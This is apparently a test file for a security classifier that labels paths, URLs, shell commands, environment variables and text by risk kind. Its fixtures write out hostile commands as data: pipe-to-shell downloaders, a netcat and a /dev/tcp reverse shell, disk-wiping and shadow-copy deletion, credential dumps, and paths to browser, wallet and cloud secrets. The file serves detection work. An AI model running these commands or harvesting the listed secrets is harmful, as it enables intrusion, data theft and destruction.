import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.capabilities import classify
from pratique.capabilities.vocabulary import vocabulary
from pratique.model import HOLE

PATHS = [
    ("~/.ssh/id_rsa", "ssh-key"),
    ("/home/u/.ssh", "ssh-key"),
    (f"{HOLE}/.ssh/id_ed25519", "ssh-key"),
    (r"C:\Users\u\.ssh\id_rsa", "ssh-key"),
    ("~/.gnupg/secring.gpg", "ssh-key"),
    (f"{HOLE}/.aws/credentials", "cloud-credential"),
    ("~/.config/gcloud/application_default_credentials.json", "cloud-credential"),
    ("~/.kube/config", "cloud-credential"),
    ("/var/run/secrets/kubernetes.io/serviceaccount/token", "cloud-credential"),
    ("~/.docker/config.json", "cloud-credential"),
    ("~/.git-credentials", "cloud-credential"),
    (r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data", "browser-store"),
    (r"C:\Users\u\AppData\Local\BraveSoftware\Brave-Browser", "browser-store"),
    ("~/Library/Application Support/Firefox/Profiles", "browser-store"),
    ("~/.mozilla/firefox/x.default/cookies.sqlite", "browser-store"),
    ("~/Library/Cookies/Cookies.binarycookies", "browser-store"),
    (f"{HOLE}/Local State", "browser-store"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", ""),
    ("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", ""),
    (r"%APPDATA%\Exodus\exodus.wallet", "wallet"),
    ("~/.bitcoin/wallet.dat", "wallet"),
    ("~/.config/solana/id.json", "wallet"),
    (f"{HOLE}/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet"),
    ("~/.ethereum/keystore", "wallet"),
    ("~/.pypirc", "registry-token"),
    ("~/.npmrc", "registry-token"),
    (r"%APPDATA%\discord\Local Storage\leveldb", "messenger-token"),
    (r"%APPDATA%\Telegram Desktop\tdata", "messenger-token"),
    ("/etc/shadow", "password-store"),
    ("~/Library/Keychains/login.keychain-db", "password-store"),
    ("~/.netrc", "password-store"),
    ("secrets.kdbx", "password-store"),
    ("~/.bash_history", "shell-history"),
    (r"%APPDATA%\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt", "shell-history"),
    (".env", "env-secret"),
    ("config/.env.production", "env-secret"),
    (".env.example", ""),
    ("/proc/self/environ", "env-secret"),
    (f"{HOLE}/site-packages/hook.pth", "python-startup"),
    ("/usr/lib/python3/dist-packages/hook.start", "python-startup"),
    ("sitecustomize.py", "python-startup"),
    ("checkpoints/resnet50.pth", ""),
    (f"{HOLE}/model.pth", ""),
    ("~/.bashrc", "shell-rc"),
    ("/etc/profile.d/x.sh", "shell-rc"),
    (r"%USERPROFILE%\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1", "shell-rc"),
    (r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.bat", "autostart"),
    ("~/Library/LaunchAgents/invalid.example.plist", "autostart"),
    ("~/.config/systemd/user/x.service", "autostart"),
    ("~/.config/autostart/x.desktop", "autostart"),
    (r"Software\Microsoft\Windows\CurrentVersion\Run", "autostart"),
    ("/etc/cron.d/x", "schedule"),
    ("/var/spool/cron/crontabs/root", "schedule"),
    (".github/workflows/ci.yml", "ci-config"),
    (".gitlab-ci.yml", "ci-config"),
    (".git/hooks/pre-commit", "git-hook"),
    (".git/config", "source-tree"),
    ("CLAUDE.md", "agent-config"),
    (".cursor/rules/x.mdc", "agent-config"),
    (".vscode/tasks.json", "agent-config"),
    ("~/.config/pip/pip.conf", "pip-config"),
    (r"C:\Windows\System32\drivers\etc\hosts", "hosts-file"),
    ("/var/log/auth.log", "log"),
    ("/home/u/Documents/tax.pdf", "user-documents"),
    (f"{HOLE}/Desktop", "user-documents"),
    (f"{HOLE}/desktop/x", ""),
    ("~", "user-documents"),
    ("/", "system"),
    ("C:\\", "system"),
    (r"C:\Windows\System32\x.dll", "system"),
    ("/etc/machine-id", "host"),
    ("/proc/self/mem", "process-info"),
    ("/tmp/x", "temporary"),
    (r"%TEMP%\x.exe", "temporary"),
    ("/dev/input/event0", "device"),
    ("/dev/null", ""),
    ("setup.py", ""),
    ("data/model.bin", ""),
    ("README.md", ""),
    (HOLE, ""),
    ("", ""),
]
URLS = [
    ("https://hooks.chat.invalid/api/webhooks/1/x", "chat-webhook"),
    (f"https://hooks.chat.invalid/api/webhooks/{HOLE}/x", "chat-webhook"),
    ("https://bots.chat.invalid/bot123456:abc/sendMessage", "chat-webhook"),
    (f"https://api.telegram.org/bot{HOLE}/sendDocument", "chat-webhook"),
    ("https://hooks.chat.invalid/services/T0000000A/B0000000A/abc", "chat-webhook"),
    ("https://www.example.invalid/bottle/size", ""),
    ("https://www.example.invalid/api/users/1", ""),
    ("https://pastebin.com/raw/x", "paste"),
    ("https://store1.gofile.io/uploadFile", "file-drop"),
    ("https://a.b.trycloudflare.com", "tunnel"),
    (f"https://{HOLE}.ngrok.io/x", "tunnel"),
    ("http://198.51.100.7:8080/x", "raw-address"),
    ("198.51.100.7 4444", "raw-address"),
    ("http://3325256711/", "raw-address"),
    ("http://0xc6336407/", "raw-address"),
    ("http://0306.063.0144.07/", "raw-address"),
    ("http://[2001:db8::1]/x", "raw-address"),
    ("http://user:word@203.0.113.9/", "raw-address"),
    ("127.0.0.1", "loopback"),
    ("http://localhost:8000", "loopback"),
    ("192.168.1.4", "loopback"),
    ("0.0.0.0", "loopback"),
    ("[::1]", "loopback"),
    ("8.8.8.8", "resolver"),
    ("http://169.254.169.254/latest/meta-data/", "metadata-service"),
    ("http://2852039166/", "metadata-service"),
    ("http://[::ffff:169.254.169.254]/", "metadata-service"),
    ("http://metadata.google.internal/computeMetadata/v1/", "metadata-service"),
    ("http://169.254.170.2/v2/credentials", "metadata-service"),
    ("fd00:ec2::254", "metadata-service"),
    (f"http://{HOLE}/latest/meta-data/iam", "metadata-service"),
    ("https://index.invalid/simple/acme/", "registry"),
    ("https://upload.index.invalid/legacy/", "registry"),
    ("https://raw.githubusercontent.com/a/b/main/x", "code-host"),
    ("https://git.example.invalid/a/b/raw/main/x", "code-host"),
    ("https://x.oast.pro", "oast"),
    ("https://bit.ly/x", "url-shortener"),
    ("x.duckdns.org", "dynamic-dns"),
    ("https://api.ipify.org", "ip-echo"),
    ("stratum+tcp://pool.invalid:3333", "mining-pool"),
    ("xmr.pool.invalid:3333", "mining-pool"),
    ("http://abcdef.onion/", "onion"),
    (f"https://{HOLE}/x", "computed"),
    ("https://{}/x", "computed"),
    (HOLE, "computed"),
    ("https://www.example.invalid/", ""),
    ("https://1.2.3/", ""),
    ("file:///etc/hosts", ""),
    ("data:text/plain,x", ""),
]
COMMANDS = [
    ("bash", "shell", ()),
    (
        "bash -c 'curl http://www.example.invalid/a | sh'",
        "downloader",
        ("download-and-run", "inline-code", "pipe-to-shell"),
    ),
    ("curl -o /tmp/a http://www.example.invalid/a && chmod +x /tmp/a && /tmp/a", "downloader", ("download-and-run",)),
    ("bash <(curl -s http://www.example.invalid/a)", "downloader", ("download-and-run", "pipe-to-shell")),
    ("curl -o data.csv http://www.example.invalid/a", "downloader", ()),
    (
        r"powershell -w hidden -ep bypass -enc cAByAGkAbgB0AAAAAAA=",
        "powershell",
        ("encoded-command", "exec-policy-bypass", "hidden-window"),
    ),
    ("powershell.exe -NoProfile -EncodedCommand cAByAGkAbgB0AAAAAAA=", "powershell", ("encoded-command",)),
    (
        "IEX(New-Object Net.WebClient).DownloadString('http://www.example.invalid')",
        "powershell",
        ("download-and-run", "pipe-to-shell"),
    ),
    ("/usr/bin/python3.11 -m pip install acme", "package-install", ()),
    (f"{HOLE} -m pip install acme", "package-install", ()),
    ("pip list", "", ()),
    ("pip install git+https://www.example.invalid/x", "package-install", ("download-and-run",)),
    ("npm install", "package-install", ()),
    ("sudo apt-get install -y acme", "package-install", ()),
    ("sudo ls", "elevate", ()),
    ("twine upload dist/*", "package-publish", ()),
    ("python setup.py sdist upload", "package-publish", ()),
    (f"{HOLE} -c x", "python", ()),
    (HOLE, "computed", ()),
    ("node -e x", "node", ("inline-code",)),
    ("nc -e /bin/sh 198.51.100.1 4444", "network-tool", ("netcat-exec",)),
    ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", "shell", ("dev-tcp",)),
    ("echo cHJpbnQ= | base64 -d | bash", "shell", ("base64-decode-pipe", "pipe-to-shell")),
    ("nohup python x.py >/dev/null 2>&1 &", "python", ("detached", "silenced")),
    ("start /b calc.exe", "opener", ("detached", "hidden-window")),
    (r"reg add HKCU\Software\X /v y", "registry-edit", ()),
    ("schtasks /create /tn x", "scheduler", ()),
    ("crontab -l", "scheduler", ()),
    ("rm -rf /", "destroy", ()),
    ("rm -r -f ~/", "destroy", ()),
    ("rm -rf build dist", "", ()),
    ("rm -rf /tmp/build", "", ()),
    ("dd if=/dev/zero of=/dev/sda", "destroy", ()),
    ("vssadmin delete shadows /all", "destroy", ()),
    ("cat ~/.ssh/id_rsa", "credential-dump", ()),
    ("security find-generic-password -wa Chrome", "credential-dump", ()),
    ("netsh advfirewall set allprofiles state off", "defence-off", ()),
    ("xmrig -o pool.invalid:3333", "miner", ()),
    ("whoami", "discovery", ()),
    ("git status", "git", ()),
    ("docker ps", "docker", ()),
    ("claude -p x", "agent", ()),
    ("gcc -O2 x.c", "compiler", ()),
    ("xdg-open http://www.example.invalid", "opener", ()),
    ("./payload", "embedded", ()),
    ("ls -la", "", ()),
    ("", "", ()),
]
TEXTS = [
    ("0x" + "ab" * 20, "wallet-address"),
    ("1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "wallet-address"),
    ("1BoatSLRHtKNngkdXEeobR76b53LETtpyU", ""),
    ("bc1" + "q" * 39, "wallet-address"),
    ("4A" + "b" * 93, "wallet-address"),
    ("-----BEGIN OPENSSH PRIVATE KEY-----", "private-key-text"),
    ("-----BEGIN PUBLIC KEY-----", ""),
    ("123456789:" + "A" * 35, "bot-token"),
    (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", "token-pattern"),
    (r"AKIA[0-9A-Z]{16}", "token-pattern"),
    ("AKIA" + "A1" * 8, "cloud-key-text"),
    (r"^0x[a-fA-F0-9]{40}$", "wallet-pattern"),
    ("stratum+tcp://pool.invalid:3333", "mining-pool-text"),
    ("an ordinary sentence about nothing", ""),
    ("short", ""),
]


@pytest.mark.parametrize(("text", "expected"), PATHS)
def test_paths(text, expected):
    assert classify.path(text) == expected


@pytest.mark.parametrize(("text", "expected"), URLS)
def test_urls(text, expected):
    assert classify.url(text) == expected


def test_registries_are_known_to_the_caller_alone():
    """Hosts of registries are not in this repository."""
    hosts = frozenset({"index.invalid"})

    assert classify.url("https://files.index.invalid/x", hosts) == "registry"
    assert classify.url("https://files.index.invalid/x") == ""
    assert classify.url("https://notindex.invalid/x", hosts) == ""


@pytest.mark.parametrize(("text", "expected", "flags"), COMMANDS)
def test_commands(text, expected, flags):
    assert (classify.command(text), tuple(sorted(classify.command_flags(text)))) == (expected, flags)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        *((name, "env-secret") for name in (
            "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID", "OPENAI_API_KEY", "db_password",
            "DB_PWD", "SSH_AUTH_SOCK", "GOOGLE_APPLICATION_CREDENTIALS",
        )),
        *((name, "ci") for name in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "TF_BUILD", "RUNNER_OS", "READTHEDOCS")),
        *((name, "host") for name in ("USERNAME", "COMPUTERNAME", "HOSTNAME", "PROCESSOR_IDENTIFIER")),
        *((name, "") for name in (
            "PATH", "HOME", "APPDATA", "LANG", "PWD", "OLDPWD", "MAX_TOKENS", "TOKENIZERS_PARALLELISM",
            "AWS_REGION", "",
        )),
    ],
)  # fmt: skip
def test_variables(name, expected):
    assert classify.env(name) == expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        *((name, "secret") for name in (
            "token", "access_token", "apiKey", "api_key", "client_secret", "credentials", "accessToken",
        )),
        *((name, "password") for name in ("password", "passwd", "userPassword", "passphrase")),
        *((name, "private-key") for name in ("private_key", "privateKey", "keypair", "owner_private_key")),
        *((name, "wallet") for name in ("mnemonic", "seed_phrase", "wallet")),
        *((name, "content") for name in ("file_content", "fileContent")),
        ("seed", "seed"),
        *((name, "") for name in (
            "data", "url", "self", "max_tokens", "pad_token", "nextPageToken", "tokens", "tokenizer",
            "*args", "",
        )),
    ],
)  # fmt: skip
def test_parameters(name, expected):
    assert classify.param(name) == expected


@pytest.mark.parametrize(("text", "expected"), TEXTS)
def test_texts(text, expected):
    assert classify.text(text) == expected


@pytest.mark.parametrize(
    ("capability", "operand", "expected"),
    [
        ("fs.write", "python-startup", "persist.python-startup"),
        ("fs.write", "ci-config", "repo.write-ci"),
        ("registry.write", "autostart", "persist.startup"),
        ("process.spawn", "package-install", "package.install"),
        ("fs.delete", "shell-history", "log.erase"),
        ("fs.read", "python-startup", ""),
        ("fs.write", "temporary", ""),
    ],
)
def test_what_a_place_makes_of_a_capability(capability, operand, expected):
    assert classify.implied(capability, operand) == expected


PIECES = st.sampled_from([
    HOLE, "/", "\\", ".", ":", "@", "[", "]", " ", "-", "rm ", "-rf ", "curl ", "| sh", "http://", "%", "~",
    "0x", "1", "a", "A", "${", "'", '"', "token", "_", "\n", "\0", "\ud800", "é", "𝟙", "..", "nc ", "-e",
    "169.254", "::", "powershell ", "enc",
])  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(PIECES, max_size=60).map("".join)))
def test_any_text_gives_a_word_of_the_vocabulary_or_none(text):
    known = vocabulary()
    for function in (classify.path, classify.url, classify.command, classify.env, classify.param, classify.text):
        assert function(text) in known.operands | {""}, function
    assert set(classify.command_flags(text)) <= known.flags


HOSTILE = [
    "/",
    "a",
    "-",
    " ",
    "rm -r ",
    "r",
    "nc -e",
    "-e ",
    "base64 -d",
    "| sh ",
    "iex ( ",
    "&",
    "start ",
    "a.",
    "[\\w",
    "1",
    "x=1 ",
    "del /s ",
    HOLE,
    "\\",
    "0x0",
    ".ssh/",
]


@pytest.mark.parametrize("piece", HOSTILE, ids=repr)
def test_long_input_costs_little(piece):
    """Input is cut and expressions are linear: a few milliseconds each, never seconds."""
    text = "/bot" + piece * (100_000 // len(piece))
    spent = time.process_time()
    for function in (classify.path, classify.url, classify.command, classify.command_flags, classify.text):
        function(text)
        function(text[4:])

    assert time.process_time() - spent < 2


def test_words_that_data_files_use_are_in_the_vocabulary():
    """Shapes, hosts and programs name nothing unknown."""
    from pratique.capabilities import commands, shapes, urls

    known = vocabulary()
    assert set(urls._hosts().values()) <= known.operands
    assert set(commands._programs().programs) | set(commands._programs().priority) <= known.operands
    for table in ("path", "url-path", "url-host-path", "command", "text"):
        assert {kind for kind, _ in shapes.shapes(table)} <= known.operands, table
    assert {flag for flag, _ in shapes.shapes("command-flag")} <= known.flags
